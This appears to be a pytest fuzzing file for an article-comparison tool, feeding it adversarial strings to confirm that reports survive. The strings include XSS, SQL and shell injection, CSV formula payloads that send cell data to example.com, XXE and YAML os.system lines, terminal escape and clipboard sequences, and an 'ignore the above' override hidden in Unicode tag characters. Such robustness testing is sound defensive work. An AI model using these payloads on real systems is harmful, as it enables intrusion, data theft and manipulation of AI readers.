"""Texts made to confuse: whatever stands in an article, a report comes out and stays harmless."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

ARTICLE = """{bad}

Harbour, 3 March 2020

The ferry {bad} sank off the northern cape on Monday. {number} people drowned near {bad}, police \
said. {filling}

{number} people drowned in all when the ferry Alma sank, the harbour master told reporters.
"""
# What has more control characters than this is no text, and would be refused.
FILLING = " ".join(["Nothing else is known of the voyage so far."] * 90)
MARKUP = {
    "rich-close": "[/red]",
    "rich-close-any": "[/]",
    "rich-style": "[bold red on yellow blink]Alma[/bold red on yellow blink]",
    "rich-link": "[link=file:///etc/passwd]Alma[/link]",
    "rich-action": "[@click=app.bell]Alma[/]",
    "rich-escape": r"\[bold]\\[/bold]\\",
    "rich-emoji": ":skull: :warning: :no_such_emoji:",
    "rich-unclosed": "[[[[[red",
    "html-script": "<script>alert(1)</script>",
    "html-script-end": "</script><script>alert(1)</script>",
    "html-style-end": "</style><style>*{display:none}</style>",
    "html-title-end": "</title></head><body onload=alert(1)>",
    "html-img": "<img src=x onerror=alert(1)>",
    "html-svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "html-svg-foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></svg>",
    "html-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "html-attribute": '" onmouseover="alert(1)" x="',
    "html-attribute-single": "' onfocus='alert(1)' autofocus='",
    "html-bare-attribute": "x onpointerenter=alert(1) ",
    "html-link": '<a href="javascript:alert(1)">Alma</a>',
    "html-link-tab": '<a href="java\tscript:alert(1)">Alma</a>',
    "html-data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "html-comment": "<!-- --!><script>alert(1)</script> -->",
    "html-comment-open": "<!--",
    "html-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "html-meta": '<meta http-equiv=refresh content="0;url=https://example.com">',
    "html-base": "<base href=https://example.com/>",
    "html-form": "<form action=https://example.com><input name=x><button>",
    "html-template": '<template><slot></template><noscript><p title="</noscript><img src=x>">',
    "html-textarea": "</textarea><plaintext>",
    "html-null-tag": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "html-references": "&#0;&#x1b;&#xD800;&#9999999999;&notanentity;&",
    "html-double": "&amp;lt;b&amp;gt;",
    "html-half": "<b",
    "html-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "html-wide": "＜script＞alert(1)＜/script＞",
    "jinja": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}",
    "jinja-deep": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0} {x!r} {0.__class__} {} {{}} %s %n %x %(x)s ${HOME} $(id) `id`",
    "shell": "'; rm -rf -- * ;'",
    "sql": "'; DROP TABLE findings; --",
    "markdown-link": "[Alma](javascript:alert(1))",
    "markdown-image": "![x](https://example.com/x.png)",
    "markdown-table": "| a | b |\n| --- | --- |\n| \\| | ` |",
    "markdown-fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "markdown-backticks": "`` ` ``` ~~~",
    "markdown-heading": "# a\n## b\n---\n***",
    "markdown-auto": "<https://example.com> <x@example.com> www.example.com",
    "markdown-note": "[^1] [^1]: x [Alma][x] [x]: https://example.com",
    "markdown-tail": "\\",
    "latex": "\\input{/etc/passwd} $\\frac{1}{0}$",
    "xml-cdata-end": "]]>",
    "xml-cdata": "]]]]><![CDATA[>",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xml-instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "json-ends": '"}]}, \\ \\" \\u0000 \\ud800',
    "json-line": "\u2028\u2029",
    "path": "../../../../etc/passwd",
    "path-windows": "C:\\Windows\\..\\con .",
    "address": "https://user:secret@example.com:99999/%00%0a?x=<y>#z",
}
COMMANDS = {
    "github-error": "::error file=x,line=1::hacked",
    "github-line": "a\n::error::hacked\n::set-output name=x::y",
    "github-percent": "%0A::error::hacked%0D%0A%25",
    "github-stop": "::stop-commands::token\n##[error]hacked\n##vso[task.setvariable variable=x]y",
    "github-mask": "::add-mask::police",
    "github-carriage": "a\r::error::hacked\r\n::error::b",
    "teamcity": "##teamcity[message text='x' status='ERROR']",
    "gitlab": "section_start:1:x\r\x1b[0Kx",
    "csv-command": "=cmd|' /C calc'!A0",
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-space": "  =1+1",
    "csv-link": '=HYPERLINK("https://example.com?x="&A1,"click")',
    "csv-import": '=IMPORTXML(CONCAT("https://example.com?",A1),"//a")',
    "csv-quote": '",=1+1,"',
    "csv-quotes": '"""""',
    "csv-break": "x\r\n=1+1,2,3",
    "csv-wide": "＝1＋1",
    "csv-dde": 'DDE("cmd";"/C calc";"x")',
    "csv-no-break-space": "\u00a0=1+1",
}
CONTROLS = {
    "ansi-colour": "\x1b[31mred\x1b[0m",
    "ansi-clear": "\x1b[2J\x1b[H",
    "ansi-up": "\x1b[1A\x1b[2K",
    "ansi-hidden": "\x1b[8mhidden\x1b[28m",
    "ansi-one-byte": "\x9b31mred\x9b0m",
    "ansi-device": "\x1b[6n\x1b[c\x1b[>q",
    "ansi-half": "\x1b[",
    "osc-title": "\x1b]0;owned\x07",
    "osc-link": "\x1b]8;;file:///etc/passwd\x1b\\Alma\x1b]8;;\x1b\\",
    "osc-clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "osc-one-byte": "\x9d0;owned\x9c",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "reset": "\x1bc",
    "bell": "\x07",
    "backspace": "Nine\x08\x08\x08\x08Five",
    "delete": "Nine\x7f\x7fFive",
    "carriage": "Nine people\rFive people",
    "vertical-tab": "a\x0bb\x0cc",
    "shift": "\x0e\x0f",
    "separators": "\x1c\x1d\x1e\x1f",
    "next-line": "a\x85b",
    "c1": "\x80\x84\x88\x8d\x90\x98\x9e\x9f",
}
INVISIBLE = {
    "bidi-override": "\u202edeniw enin\u202c",
    "bidi-embedding": "\u202b\u202aAlma\u202c\u202c",
    "bidi-isolate": "\u2067\u2066Alma\u2069\u2069",
    "bidi-unclosed": "\u202e\u2067",
    "bidi-marks": "\u200e\u200f\u061c",
    "bidi-source": "Nine\u202e \u2066// five\u2069 \u2066",
    "bidi-digits": "\u202e12\u202c",
    "arabic": "غرقت العبارة في الثالث من مارس",
    "hebrew-mixed": "הספינה Alma 12 אנשים (9)",
    "zero-width": "Al\u200bma\u200c\u200d\u2060",
    "zero-width-number": "1\u200b2",
    "zero-width-flood": "a" + "\u200b" * 500 + "b",
    "byte-order-marks": "\ufeff\ufeffAlma\ufeff",
    "soft-hyphens": "Al\u00adma\u00ad" + "\u00ad" * 50,
    "joiners": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "tags": "Alma" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the above"),
    "variation": "A\ufe0f\ufe0e" + "\U000e0100" * 20,
    "combining": "Z" + "\u0351\u0328\u0489" * 60,
    "combining-alone": "\u0301\u0301\u0301",
    "combining-digits": "1\u0336 2\u0336",
    "enclosing": "1\u20e3 9\u20dd",
    "hangul-filler": "\u3164\u115f\u1160\uffa0",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "object": "\ufffc\ufffd",
    "noncharacters": "\ufdd0\ufffe\uffff\U0010ffff",
    "private": "\ue000\uf8ff\U000f0000",
    "unassigned": "\u0378\U000e0080",
    "spaces": "\u2000\u2003\u2009\u200a\u202f\u205f\u3000\u1680",
    "musical": "\U0001d173\U0001d17a",
    "mongolian": "\u180e\u180b",
}
LETTERS = {
    "homoglyphs": "Аlmа реорlе",
    "full-width": "Ｎｉｎｅ　ｐｅｏｐｌｅ　１２",
    "mathematical": "𝐍𝐢𝐧𝐞 𝟗 𝟙𝟚",
    "ligatures": "ﬁve ﬂoors ﬃ ĳ ǆ",
    "growing": "ßßß İıİ ŉ ǰ ΐ ﬀ",
    "final-sigma": "ΣΊΣΥΦΟΣ",
    "superscripts": "x² 1⁰ ⁹ ₉ ①②③ ⑳ ㊿",
    "fractions": "½ ⅓ 1⅞ ⅟ 1⁄2 ↉",
    "roman": "Ⅻ ⅿ ↂ XIIII MCMXCIX",
    "other-digits": "١٢٣ ۱۲۳ १२३ ๑๒๓ 一二三 〇 〡 ௰",
    "cuneiform-digit": "\U00012400 \U00010107",
    "cjk": "渡輪沉沒，九人死亡。",
    "thai": "เรือข้ามฟากจมลง",
    "emoji": "9️⃣ 👩🏽‍🚒 🏴‍☠️ 🇳🇴🇳🇴🇳",
    "mojibake": "Itâ€™s â‚¬5 Ã©",
    "ogham": "\u1680\u169b",
    "deseret": "\U00010400\U00010428",
}
SHAPES = {
    "empty": "",
    "space": " ",
    "dots": "." * 300,
    "quotes": '"' * 101,
    "curly": "“" * 60 + "”" * 3,
    "apostrophes": "'" * 77 + "s",
    "dashes": "—–-" * 60,
    "commas": ", " * 150,
    "semicolons": ";:" * 120,
    "brackets": "(" * 150 + ")" * 150,
    "square": "[" * 150,
    "braces": "{}" * 150,
    "mixed-brackets": "([{<" * 60,
    "currency": "$€£¥₹₿" * 30,
    "percents": "% " * 100,
    "slashes": "1/" * 80,
    "colons": "1:" * 80,
    "points": "1." * 80,
    "hyphens": "1-" * 80,
    "thousands": "1" + ",000" * 60,
    "digits": "9" * 3000,
    "zeros": "0" * 700,
    "minus": "-" * 20 + "5",
    "word": "a" * 3000,
    "capitals": "A" * 500 + " " + "B. " * 60,
    "names": "Anna Berg " * 40,
    "and": "and " * 150,
    "of": "people of " * 60,
    "not": "not " * 100,
    "said": "said " * 80,
    "million": "million " * 80,
    "hundred": "one hundred " * 40,
    "least": "at least " * 60,
    "half": "half a " * 60,
    "ago": "two years ago " * 30,
    "between": "between " * 50 + "one and " * 30,
    "may": "May " * 80,
    "lines": "\n" * 200,
    "line-ends": "\r\n\r\r\n\n\r" * 20,
    "tabs": "\t" * 200,
    "rules": "\n\n=====\n\n-----\n\n*****\n\n",
    "menu": "Home | News | Sport | Weather\n" * 10,
    "dots-leader": "Alma ........ 9\n" * 5,
    "one-letter": "a b c d e f g h i j k l m n o p q r s t u v w x y z",
    "hyphenated": "a-" * 400 + "b",
    "underscores": "_" * 300,
    "hash": "#1 " * 60,
    "at": "@" * 50 + "x@y.z",
    "url": "https://example.com/" + "a/" * 200,
    "base64": "QUJDREVG" * 100,
    "hex": "0x" + "ff" * 50 + " 1e999 1E-999 NaN inf -inf Infinity",
    "front-matter": "---\ntitle: !!python/object/apply:os.system ['id']\n---",
    "comments": "Comments\n\nBob says:\n\nNine? Twenty!",
}
TEXTS = MARKUP | COMMANDS | CONTROLS | INVISIBLE | LETTERS | SHAPES


def write(name: str, text: str) -> None:
    Path(name).write_bytes(text.encode())


@pytest.mark.parametrize("bad", TEXTS.values(), ids=TEXTS.keys())
def test_a_report_comes_out(
    compared: Callable[..., Any], steers: Callable[[str], str], bad: str
) -> None:
    filling = FILLING if steers(bad) else ""
    write("north.txt", ARTICLE.format(bad=bad, number="Nine", filling=filling))
    write("south.txt", ARTICLE.format(bad=bad, number="Twenty", filling=filling))
    done = compared("north.txt", "south.txt")
    assert done.status == 1, done.err
    said = json.loads(Path("out.json").read_bytes())
    texts = {
        name: Path(f"{name}.txt").read_bytes().decode("utf-8-sig") for name in ("north", "south")
    }
    for fact in said["facts"]:
        assert texts[fact["source"]][fact["start"] : fact["end"]] == fact["text"]
    died = [f for f in said["findings"] if "Twenty" in str(f) or "20" in str(f["values"])]
    assert died, "what stands around a value does not hide it"


def test_texts_differ() -> None:
    assert len(set(TEXTS.values())) == len(TEXTS)
